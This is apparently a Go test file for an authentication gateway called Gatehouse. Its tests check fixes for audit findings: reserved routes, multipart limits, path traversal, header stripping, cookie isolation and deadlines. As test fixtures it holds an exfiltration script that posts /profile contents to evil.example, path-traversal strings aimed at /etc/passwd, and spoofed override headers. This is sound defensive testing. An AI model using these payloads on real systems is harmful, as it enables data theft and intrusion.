package server_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/signal"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/gatehouse/gatehouse/internal/admin"
	"github.com/gatehouse/gatehouse/internal/client"
	"github.com/gatehouse/gatehouse/internal/config"
	"github.com/gatehouse/gatehouse/internal/gateway"
	"github.com/gatehouse/gatehouse/internal/poll"
	"github.com/gatehouse/gatehouse/internal/server"
	"github.com/gatehouse/gatehouse/internal/servertest"
)

// catchAll is the route of the attack: accepted by the validator of old,
// it matched /oauth2/token and lifted its body limit.
const catchAll = `routes:
  - match: "POST /{service}/{rest...}"
    scope: integration.data-pools
    permission: "push data-pools"
    upstream: http://127.0.0.1:9
`

// gwRoute is a route file entry for a route to upstream.
func gwRoute(match, permission, upstream string, extra ...string) string {
	s := fmt.Sprintf("  - match: %q\n    scope: integration.data-pools\n    permission: %q\n    upstream: %s\n", match, permission, upstream)
	for _, e := range extra {
		s += "    " + e + "\n"
	}
	return s
}

// writeFile writes content to path.
func writeFile(t *testing.T, path, content string) {
	t.Helper()
	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
}

// gwServer is a real server (Server.Run on a loopback listener, with the
// configuration's read and write timeouts) with the route file routes,
// and a token of a client of acme that may read and write anything in
// data-pools/ and things/.
type gwServer struct {
	*servertest.Server
	routes string // the route file
	token  string
	logs   *syncBuffer
}

func startGateway(t *testing.T, routes string, tweak ...func(*config.Config)) *gwServer {
	t.Helper()
	path := filepath.Join(t.TempDir(), "routes.yaml")
	writeFile(t, path, routes)
	logs := &syncBuffer{}
	opts := []servertest.Option{servertest.WithWallClock(),
		servertest.WithLog(slog.New(slog.NewTextHandler(logs, nil))),
		servertest.WithConfig(func(c *config.Config) { c.Routes = path })}
	for _, f := range tweak {
		opts = append(opts, servertest.WithConfig(f))
	}
	s := servertest.Start(t, opts...)
	c, sec := s.Client(t, "acme", client.NewClient{Scopes: []string{"integration.data-pools"}})
	for _, res := range []string{"data-pools", "data-pools/*", "things/*"} {
		for _, act := range []string{"read", "push", "write"} {
			s.Grant(t, "acme", "client:"+c.ID, act, res)
		}
	}
	return &gwServer{Server: s, routes: path, token: s.Token(t, "acme", c.ID, sec, "integration.data-pools"), logs: logs}
}

// do sends a request with the token to rawURL, the path sent as written.
func (g *gwServer) do(t *testing.T, ctx context.Context, method, rawURL string, body io.Reader, hdr map[string]string) (*http.Response, error) {
	t.Helper()
	req, err := http.NewRequestWithContext(ctx, method, rawURL, body)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+g.token)
	for k, v := range hdr {
		req.Header[k] = []string{v}
	}
	return g.HTTP.Do(req)
}

// recordingUpstream is an upstream that counts its calls and keeps the
// last request's path and headers.
type recordingUpstream struct {
	*httptest.Server
	mu     sync.Mutex
	calls  int
	path   string
	header http.Header
}

func newRecordingUpstream(t *testing.T, answer http.HandlerFunc) *recordingUpstream {
	t.Helper()
	u := &recordingUpstream{}
	u.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		u.mu.Lock()
		u.calls++
		u.path, u.header = r.URL.EscapedPath(), r.Header.Clone()
		u.mu.Unlock()
		if answer != nil {
			answer(w, r)
			return
		}
		io.WriteString(w, `{"ok":true}`)
	}))
	t.Cleanup(u.Close)
	return u
}

func (u *recordingUpstream) last() (int, string, http.Header) {
	u.mu.Lock()
	defer u.mu.Unlock()
	return u.calls, u.path, u.header
}

// Finding 2: a catch-all route is refused when the server starts, with a
// message that names the file, the line and the reason.
func TestGatewayCatchAllRefusedAtStart(t *testing.T) {
	for _, tt := range []struct{ name, routes, want string }{
		{"catch-all", catchAll, `a wildcard first segment matches Gatehouse's own paths`},
		{"every path", "routes:\n" + gwRoute("POST /", "push data-pools", "http://127.0.0.1:9"), `matches every path, Gatehouse's own too`},
		{"token endpoint", "routes:\n" + gwRoute("POST /oauth2/token", "push data-pools", "http://127.0.0.1:9"), `/oauth2 is Gatehouse's own path`},
		{"sign-in page", "routes:\n" + gwRoute("POST /login", "push data-pools", "http://127.0.0.1:9"), `/login is Gatehouse's own path`},
		{"team API", "routes:\n" + gwRoute("GET /api/team/{x...}", "read data-pools", "http://127.0.0.1:9"), `/api is Gatehouse's own path`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			path := filepath.Join(t.TempDir(), "routes.yaml")
			writeFile(t, path, tt.routes)
			cfg := servertest.Config(func(c *config.Config) { c.Routes = path; c.AuditSpoolDir = t.TempDir() })
			_, err := server.New(server.Options{Config: cfg, Store: servertest.Open(t, "", filepath.Join(t.TempDir(), "g.db")),
				MasterKey: servertest.MasterKey(t)})
			if err == nil || !strings.Contains(err.Error(), path+":2:") || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("server.New: %v; want the route file refused: %s", err, tt.want)
			}
		})
	}
}

// Finding 2: a catch-all route is refused on SIGHUP too: the routes
// already served stay, and Gatehouse's own endpoints keep their body
// limit.
func TestGatewayCatchAllRefusedOnReload(t *testing.T) {
	// Catch SIGHUP here too, so that a signal that arrives before the
	// server's watcher listens does not end the test binary.
	guard := make(chan os.Signal, 16)
	signal.Notify(guard, syscall.SIGHUP)
	defer signal.Stop(guard)

	up := newRecordingUpstream(t, nil)
	g := startGateway(t, "routes:\n"+gwRoute("POST /integration/pools/{pool}/push", "push data-pools/{pool}", up.URL))
	writeFile(t, g.routes, catchAll)
	poll.Must(t, 10*time.Second, "the server to refuse the reloaded route file", func() bool {
		if strings.Contains(g.logs.String(), "gateway routes not reloaded") {
			return true
		}
		if err := syscall.Kill(os.Getpid(), syscall.SIGHUP); err != nil {
			t.Fatal(err)
		}
		return false
	})
	if logs := g.logs.String(); !strings.Contains(logs, "a wildcard first segment matches Gatehouse's own paths") {
		t.Errorf("the log does not say why:\n%s", logs)
	}

	// The old route still serves.
	resp, err := g.do(t, t.Context(), "POST", servertest.URL("acme", "/integration/pools/7/push"), strings.NewReader("{}"), nil)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Errorf("the route served before the reload: %d", resp.StatusCode)
	}
	// The token endpoint keeps its limit: a 5 MB form is 413.
	form := "grant_type=client_credentials&x=" + strings.Repeat("a", 5<<20)
	resp, err = g.HTTP.Post(servertest.URL("acme", "/oauth2/token"), "application/x-www-form-urlencoded", strings.NewReader(form))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusRequestEntityTooLarge {
		t.Errorf("5 MB form to /oauth2/token: %d, want 413", resp.StatusCode)
	}
}

// Finding 2: the server's own routes are all kept from the gateway, and
// the list the command line checks route files with
// (gateway.DefaultReserved) has every one of them.
func TestGatewayReservedPrefixes(t *testing.T) {
	s := servertest.Start(t, servertest.HandlerOnly())
	got := s.ReservedPrefixes()
	for _, want := range []string{"oauth2", ".well-known", "api", "login", "logout", "profile", "healthz", "readyz", "consent"} {
		if !slices.Contains(got, want) {
			t.Errorf("reserved prefixes %q lack %q", got, want)
		}
	}
	for _, p := range got {
		if !slices.Contains(gateway.DefaultReserved, p) {
			t.Errorf("the server's route prefix %q is not in gateway.DefaultReserved, which the command line checks route files with", p)
		}
	}
}

// Finding 2: a multipart body's file part is refused on its headers, and
// nothing of it reaches the disk: the answer comes while the body is
// still being sent, and no temporary file is ever made.
func TestMultipartFilePartNeverWritten(t *testing.T) {
	up := newRecordingUpstream(t, nil)
	g := startGateway(t, "routes:\n"+gwRoute("POST /integration/pools/{pool}/push", "push data-pools/{pool}", up.URL))

	for _, path := range []string{"/oauth2/token", "/oauth2/introspect", "/oauth2/revoke", "/login", "/logout", "/oauth2/authorize"} {
		t.Run(path, func(t *testing.T) {
			tmp := t.TempDir()
			t.Setenv("TMPDIR", tmp) // where ParseMultipartForm would spill the part
			pr, pw := io.Pipe()
			defer pw.Close()
			mw := multipart.NewWriter(pw)
			go func() {
				mw.WriteField("grant_type", "client_credentials")
				fw, err := mw.CreateFormFile("upload", "big.bin")
				if err != nil {
					return // the test is over
				}
				// 256 KiB now, far past what ParseMultipartForm keeps in
				// memory (64 KiB), and then nothing until the test ends.
				if _, err := fw.Write(make([]byte, 256<<10)); err != nil {
					return
				}
				<-t.Context().Done()
			}()
			req, _ := http.NewRequestWithContext(t.Context(), "POST", servertest.URL("acme", path), pr)
			req.Header.Set("Content-Type", mw.FormDataContentType())
			type answer struct {
				resp *http.Response
				err  error
			}
			got := make(chan answer, 1)
			go func() {
				resp, err := g.HTTP.Do(req)
				got <- answer{resp, err}
			}()
			var a answer
			var spilled []os.DirEntry
			poll.Must(t, 10*time.Second, "an answer or a temporary file", func() bool {
				select {
				case a = <-got:
					return true
				default:
				}
				spilled, _ = os.ReadDir(tmp)
				return len(spilled) > 0
			})
			if len(spilled) > 0 {
				t.Fatalf("the file part was written to %s/%s before any answer", tmp, spilled[0].Name())
			}
			if a.err != nil {
				t.Fatal(a.err)
			}
			defer a.resp.Body.Close()
			b, _ := io.ReadAll(a.resp.Body)
			switch path {
			case "/oauth2/token", "/oauth2/introspect", "/oauth2/revoke":
				var e struct {
					Error            string `json:"error"`
					ErrorDescription string `json:"error_description"`
				}
				json.Unmarshal(b, &e)
				if a.resp.StatusCode != http.StatusBadRequest || e.Error != "invalid_request" || e.ErrorDescription != "file parts are not accepted" {
					t.Errorf("answer %d %s, want 400 file parts are not accepted", a.resp.StatusCode, b)
				}
			default: // the web UI's forms
				if a.resp.StatusCode != http.StatusUnsupportedMediaType {
					t.Errorf("answer %d, want 415", a.resp.StatusCode)
				}
			}
			if files, _ := os.ReadDir(tmp); len(files) > 0 {
				t.Errorf("temporary files left: %v", files)
			}
		})
	}
}

// Finding 4: on a wildcard the permission does not use, paths that an
// upstream resolves outside the route's prefix are refused 400 in the
// gateway's format, and never reach it; override and client-address
// headers are stripped.
func TestGatewayTraversalAndOverridesThroughServer(t *testing.T) {
	up := newRecordingUpstream(t, nil)
	g := startGateway(t, "routes:\n"+
		gwRoute("GET /integration/v/{version}/things/{id}", "read things/{id}", up.URL+"/base")+
		gwRoute("GET /integration/files/{path...}", "read data-pools", up.URL+"/files"))

	for _, target := range []string{
		"/integration/v/..%5c..%5c/things/1",
		"/integration/v/..%5C..%5Cadmin/things/1",
		"/integration/v/%2e%2e/things/1",
		"/integration/v/%252e%252e/things/1",
		"/integration/v/%252e%252e%252f%252e%252e/things/1",
		"/integration/v/..;/things/1",
		"/integration/files/a/..%5c..%5c..%5cetc/passwd",
		"/integration/files/a/%252e%252e/%252e%252e/admin",
		"/integration/files/%2e%2e/%2e%2e/admin",
	} {
		req, _ := http.NewRequestWithContext(t.Context(), "GET", "http://acme.gatehouse.test/", nil)
		req.URL.Opaque = "//acme.gatehouse.test" + target // sent as written
		req.Header.Set("Authorization", "Bearer "+g.token)
		resp, err := g.HTTP.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		var e struct {
			Error string `json:"error"`
		}
		json.NewDecoder(resp.Body).Decode(&e)
		resp.Body.Close()
		if resp.StatusCode != http.StatusBadRequest || e.Error != "invalid_request" {
			t.Errorf("%s: %d %q, want 400 invalid_request", target, resp.StatusCode, e.Error)
		}
	}
	if calls, path, _ := up.last(); calls != 0 {
		t.Fatalf("the upstream was called %d times, last %s", calls, path)
	}

	hdr := map[string]string{}
	for _, h := range []string{"X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "X-Original-URL", "X-Rewrite-URL",
		"X-Real-IP", "True-Client-IP", "X-Client-IP", "X_HTTP_Method_Override", "X_Real_IP"} {
		hdr[h] = "DELETE /admin 10.0.0.1"
	}
	resp, err := g.do(t, t.Context(), "GET", servertest.URL("acme", "/integration/v/2/things/7"), nil, hdr)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	calls, path, got := up.last()
	if resp.StatusCode != http.StatusOK || calls != 1 || path != "/base/integration/v/2/things/7" {
		t.Fatalf("plain call: %d, upstream %d calls, path %s", resp.StatusCode, calls, path)
	}
	for k, v := range got {
		if slices.Contains(v, "DELETE /admin 10.0.0.1") {
			t.Errorf("the upstream received %s: %q", k, v)
		}
	}
}

// gatehouseCookies signs a user in through the real pages and returns
// the Set-Cookie lines the web UI sent: Gatehouse's own cookies, as an
// upstream would copy them.
func gatehouseCookies(t *testing.T, s *servertest.Server) []string {
	t.Helper()
	s.User(t, "acme", admin.NewUser{Email: "cookie@example.com", Name: "Cookie Example"})
	hc := &http.Client{Transport: s.HTTP.Transport, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := hc.Get(servertest.URL("acme", "/login"))
	if err != nil {
		t.Fatal(err)
	}
	page, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	lines := resp.Header.Values("Set-Cookie")
	fields := url.Values{"email": {"cookie@example.com"}, "password": {servertest.Password}}
	for _, m := range inputRE.FindAllStringSubmatch(string(page), -1) {
		fields.Set(m[1], m[2])
	}
	req, _ := http.NewRequest("POST", servertest.URL("acme", "/login"), strings.NewReader(fields.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Origin", "http://acme.gatehouse.test")
	for _, c := range resp.Cookies() {
		req.AddCookie(c)
	}
	resp, err = hc.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusSeeOther && resp.StatusCode != http.StatusFound {
		t.Fatalf("sign-in: %d", resp.StatusCode)
	}
	lines = append(lines, resp.Header.Values("Set-Cookie")...)
	var names []string
	for _, c := range lines {
		name, _, _ := strings.Cut(c, "=")
		names = append(names, name)
	}
	if !slices.ContainsFunc(names, func(n string) bool { return strings.Contains(n, "session") }) {
		t.Fatalf("no session cookie among %q", names)
	}
	return lines
}

// Finding 5: with the gateway on the team's host (no --gateway-domain),
// an upstream's HTML cannot run script on the origin of the sign-in
// pages, and cannot set, replace or delete any cookie the web UI sets.
func TestGatewaySharedOriginThroughServer(t *testing.T) {
	var planted []string
	var plantedMu sync.Mutex
	up := newRecordingUpstream(t, func(w http.ResponseWriter, r *http.Request) {
		plantedMu.Lock()
		for _, c := range planted {
			w.Header().Add("Set-Cookie", c)
		}
		plantedMu.Unlock()
		w.Header().Add("Set-Cookie", "upstream_pref=dark; Path=/integration")
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, `<script>fetch("/profile").then(r => r.text()).then(t => fetch("https://evil.example/?"+t))</script>`)
	})
	g := startGateway(t, "routes:\n"+gwRoute("GET /integration/page", "read data-pools", up.URL))
	plantedMu.Lock()
	planted = gatehouseCookies(t, g.Server)
	plantedMu.Unlock()

	resp, err := g.do(t, t.Context(), "GET", servertest.URL("acme", "/integration/page"), nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status %d", resp.StatusCode)
	}
	if got := resp.Header.Values("Set-Cookie"); !slices.Equal(got, []string{"upstream_pref=dark; Path=/integration"}) {
		t.Errorf("Set-Cookie %q: want only the upstream's own cookie, none of %q", got, planted)
	}
	if csp := resp.Header.Values("Content-Security-Policy"); !slices.Contains(csp, "sandbox") {
		t.Errorf("Content-Security-Policy %q, want sandbox", csp)
	}
	if v := resp.Header.Get("X-Content-Type-Options"); v != "nosniff" {
		t.Errorf("X-Content-Type-Options %q", v)
	}
}

// Finding 5: --gateway-domain serves the gateway at
// <team>.<gateway-domain> and nowhere else; the team's pages and
// endpoints are not served there; tokens of the team are valid there.
func TestGatewayDomain(t *testing.T) {
	up := newRecordingUpstream(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Add("Set-Cookie", "gatehouse_login=planted; Domain=gatehouse.test; Path=/")
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, "<p>an upstream app</p>")
	})
	g := startGateway(t, "routes:\n"+gwRoute("GET /integration/page", "read data-pools", up.URL),
		func(c *config.Config) { c.GatewayDomain = "gw.test" })

	type want struct {
		status int
		error  string // of a JSON answer
	}
	for _, tt := range []struct {
		url  string
		auth bool
		want want
	}{
		{"http://acme.gw.test/integration/page", true, want{200, ""}},
		{"http://acme.gw.test/integration/page", false, want{401, "unauthorized"}},
		{"http://acme.gatehouse.test/integration/page", true, want{404, "not_found"}},
		{"http://acme.gw.test/login", false, want{404, "not_found"}},
		{"http://acme.gw.test/profile", false, want{404, "not_found"}},
		{"http://acme.gw.test/oauth2/jwks", false, want{404, "not_found"}},
		{"http://acme.gw.test/.well-known/oauth-authorization-server", false, want{404, "not_found"}},
		{"http://acme.gw.test/", false, want{404, "not_found"}},
		{"http://nosuchteam.gw.test/integration/page", true, want{404, "unknown_team"}},
		{"http://acme.gw.test/healthz", false, want{200, ""}},
		{"http://acme.gatehouse.test/login", false, want{200, ""}},
	} {
		req, _ := http.NewRequestWithContext(t.Context(), "GET", tt.url, nil)
		if tt.auth {
			req.Header.Set("Authorization", "Bearer "+g.token)
		}
		req.Header.Set("Accept", "text/html")
		resp, err := g.HTTP.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		var e struct {
			Error string `json:"error"`
		}
		if resp.Header.Get("Content-Type") == "application/json" {
			json.Unmarshal(b, &e)
		}
		if resp.StatusCode != tt.want.status || e.Error != tt.want.error {
			t.Errorf("GET %s: %d %q, want %d %q", tt.url, resp.StatusCode, e.Error, tt.want.status, tt.want.error)
		}
		if tt.url == "http://acme.gw.test/integration/page" && tt.auth {
			if got := resp.Header.Values("Set-Cookie"); got != nil {
				t.Errorf("Set-Cookie %q on the gateway host: Gatehouse's cookie names are never passed", got)
			}
			if csp := resp.Header.Values("Content-Security-Policy"); csp != nil {
				t.Errorf("Content-Security-Policy %q on a gateway host of its own: want the upstream's answer", csp)
			}
		}
	}
	if calls, _, _ := up.last(); calls != 1 {
		t.Errorf("the upstream was called %d times, want once", calls)
	}
}

// Finding 8: an authorized call has deadlines: a caller that stalls its
// body is answered 408 within body_timeout, a silent upstream 504 within
// max_duration, and an endless answer is cut at max_duration; on a real
// server, whose own read and write timeouts the gateway replaces.
func TestGatewayDeadlinesThroughServer(t *testing.T) {
	release := make(chan struct{})
	t.Cleanup(func() { close(release) })
	wait := func(r *http.Request) {
		select {
		case <-r.Context().Done():
		case <-release:
		}
	}
	up := newRecordingUpstream(t, func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/integration/upload":
			io.Copy(io.Discard, r.Body)
		case "/integration/silent":
			wait(r)
		case "/integration/endless":
			io.WriteString(w, "first\n")
			http.NewResponseController(w).Flush()
			wait(r)
		}
	})
	g := startGateway(t, "routes:\n"+
		gwRoute("POST /integration/upload", "write data-pools", up.URL, "body_timeout: 300ms")+
		gwRoute("GET /integration/silent", "read data-pools", up.URL, "max_duration: 300ms")+
		gwRoute("GET /integration/endless", "read data-pools", up.URL, "max_duration: 300ms"))
	// Far past every deadline above, far below the server's own.
	ctx, cancel := context.WithTimeout(t.Context(), 5*time.Second)
	defer cancel()

	pr, pw := io.Pipe()
	defer pw.Close()
	context.AfterFunc(ctx, func() { pw.CloseWithError(ctx.Err()) }) // a client blocked on the body returns
	go pw.Write([]byte(`{"rows":[1,2,`))                            // and then nothing
	resp, err := g.do(t, ctx, "POST", servertest.URL("acme", "/integration/upload"), pr, nil)
	if err != nil {
		t.Fatalf("stalled body: %v; want 408 within body_timeout", err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusRequestTimeout || !strings.Contains(string(b), `"request_timeout"`) {
		t.Errorf("stalled body: %d %s, want 408 request_timeout", resp.StatusCode, b)
	}

	resp, err = g.do(t, ctx, "GET", servertest.URL("acme", "/integration/silent"), nil, nil)
	if err != nil {
		t.Fatalf("silent upstream: %v; want 504 within max_duration", err)
	}
	b, _ = io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusGatewayTimeout || !strings.Contains(string(b), `"gateway_timeout"`) {
		t.Errorf("silent upstream: %d %s, want 504 gateway_timeout", resp.StatusCode, b)
	}

	resp, err = g.do(t, ctx, "GET", servertest.URL("acme", "/integration/endless"), nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	b, err = io.ReadAll(resp.Body)
	resp.Body.Close()
	if string(b) != "first\n" || err == nil || errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("endless answer: %q, %v; want the first line, then the answer cut at max_duration", b, err)
	}
}
